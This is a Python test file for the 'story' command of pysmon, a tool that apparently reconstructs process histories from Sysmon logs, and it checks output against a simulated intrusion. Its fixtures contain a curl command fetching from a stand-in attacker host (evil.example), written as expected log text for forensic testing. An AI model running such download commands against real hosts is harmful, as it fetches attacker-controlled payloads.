"""`pysmon story`, on a file and on a store."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from tests.cli.calls import Caller
from tests.cli.logs import KINDS, written
from tests.views.cast import Cast, guid, intrusion
from tests.views.test_story import TOLD

from pysmon.schema import catalogue

Given = tuple[str, Path]


@pytest.fixture(params=KINDS)
def given(request: pytest.FixtureRequest, tmp_path: Path) -> Given:
    return written(request.param, tmp_path, intrusion().entries)


@pytest.mark.parametrize("who", [100, guid(100)])
def test_a_process_and_its_descendants_are_told_in_order(pysmon: Caller, given: Given, who: object) -> None:
    assert pysmon("story", *given, who) == (0, f"{TOLD}\n", "")


@pytest.mark.parametrize("who", [101, guid(101), guid(101, 2)])
def test_a_process_is_told_with_all_programs_that_it_ran(pysmon: Caller, given: Given, who: object) -> None:
    lines = pysmon("story", *given, who).out.splitlines()
    assert lines[1].endswith("ran env (101) in /home/joe: env curl http://evil.example/x")
    assert lines[2].endswith("env (101) became curl in /home/joe: curl http://evil.example/x")
    assert len(lines) == 7


def test_a_story_can_be_told_in_part(pysmon: Caller, given: Given) -> None:
    assert pysmon("story", *given, 100, "--id", 3).out.splitlines()[1:] == [
        "08:15:00.500   curl (101) connected to 192.0.2.1:443 (tcp)"
    ]
    assert len(pysmon("story", *given, 102, "--alone").out.splitlines()) == 1 + 3
    assert pysmon("story", *given, 100, "--text", "nothing of that").code == 1
    only = pysmon("story", *given, 100, "--guid", guid(103)).out
    assert "id (103) ended" in only
    assert "curl" not in only


def test_what_was_done_to_a_process_is_not_its_story(pysmon: Caller, tmp_path: Path) -> None:
    cast = intrusion()
    ends: dict[str, Any] = {
        "SourceProcessGUID": guid(9),
        "SourceProcessId": 9,
        "TargetProcessGUID": guid(100),
        "TargetProcessId": 100,
    }
    cast.add(catalogue.ProcessAccess, None, **ends)
    assert "opened" not in pysmon("story", *written("--store", tmp_path, cast.entries), 100).out


def test_a_story_can_be_had_as_events(pysmon: Caller, given: Given) -> None:
    rows = [json.loads(line) for line in pysmon("story", *given, 102, "--format", "json").out.splitlines()]
    assert [row["EventID"] for row in rows] == [1, 11, 1, 5, 5]


def test_of_several_processes_with_that_id_the_latest_is_told(pysmon: Caller, tmp_path: Path) -> None:
    cast = Cast()
    cast.run(7, "one", ProcessGuid="{b635b3db-0001-6b01-0000-000000000001}")
    cast.run(7, "two", ProcessGuid="{b635b3db-0002-6b01-0000-000000000002}")
    log = written("--store", tmp_path, cast.entries)
    answer = pysmon("story", *log, 7)
    assert answer.out.splitlines()[1].endswith("ran two (7) in /home/joe: two")
    assert "2 processes had the id 7" in answer.err
    assert "{b635b3db-0001-6b01-0000-000000000001}" in answer.err


def test_a_process_of_which_only_deeds_are_known_has_a_story(pysmon: Caller, tmp_path: Path) -> None:
    cast = Cast()
    cast.create(7, "/tmp/x", Image="/usr/bin/touch")
    log = written("--store", tmp_path, cast.entries)
    for who in (7, guid(7)):
        assert pysmon("story", *log, who).out.splitlines()[1:] == ["08:15:00.100 touch (7) created /tmp/x"]


def test_a_log_without_a_process_is_misuse(pysmon: Caller, tmp_path: Path) -> None:
    path = tmp_path / "log"
    path.touch()
    answer = pysmon("story", path)
    assert answer.code == 2
    assert f"(pysmon story PID {path})" in answer.err


def test_nobody_is_nothing_found(pysmon: Caller, given: Given) -> None:
    assert pysmon("story", *given, 4711) == (1, "", "pysmon: no process 4711 in this log\n")
    assert pysmon("story", *given, guid(4711)).code == 1


def test_what_a_process_did_before_it_ran_its_program_belongs_to_its_story(pysmon: Caller, tmp_path: Path) -> None:
    """A shell's child opens the file of a redirection, or connects to what it names, and runs the program then."""
    cast = Cast()
    cast.run(100, "sh")
    cast.create(101, "/tmp/out", Image="/usr/bin/sh")
    cast.connect(101, "192.0.2.1", Image="/usr/bin/sh")
    cast.run(101, "id", by=100, program=2)
    cast.create(999, "/tmp/other", Image="/usr/bin/sh")
    for kind in KINDS:
        folder = tmp_path / kind.strip("-")
        folder.mkdir()
        answer = pysmon("story", *written(kind, folder, cast.entries), 100)
        assert [line[13:] for line in answer.out.splitlines()[1:]] == [
            "init (1, joe) ran sh (100) in /home/joe: sh",
            "  sh (101) created /tmp/out",
            "  sh (101) connected to 192.0.2.1:443 (tcp)",
            "sh (100, joe) ran id (101) in /home/joe: id",
        ]


def test_a_story_without_end_is_begun_and_told_whole_on_demand(pysmon: Caller, tmp_path: Path) -> None:
    cast = Cast()
    cast.run(100, "sh")
    for pid in range(200, 1300):
        cast.run(pid, "true", by=100)
    for number in range(2010):
        cast.create(100, f"/tmp/{number}")
    log = written("--store", tmp_path, cast.entries)
    answer = pysmon("story", *log, 100)
    assert len(answer.out.splitlines()) == 1 + 3000
    assert "more than 1000 processes came of it; --all" in answer.err
    assert "these are the first 3000 events; --all" in answer.err
    whole = pysmon("story", *log, 100, "--all")
    assert (len(whole.out.splitlines()), whole.err) == (1 + 1101 + 2010, "")


def test_a_process_that_others_reached_into_before_it_acted_is_found_by_its_guid(
    pysmon: Caller, tmp_path: Path
) -> None:
    cast = Cast()
    ends: dict[str, Any] = {"SourceProcessGUID": guid(9), "SourceProcessId": 9}
    cast.add(catalogue.ProcessAccess, None, TargetProcessGUID=guid(7), TargetProcessId=7, **ends)
    cast.create(7, "/tmp/x", Image="/usr/bin/touch")
    answer = pysmon("story", *written("--store", tmp_path, cast.entries), guid(7))
    assert answer.out.splitlines()[1:] == ["08:15:00.200 touch (7) created /tmp/x"]
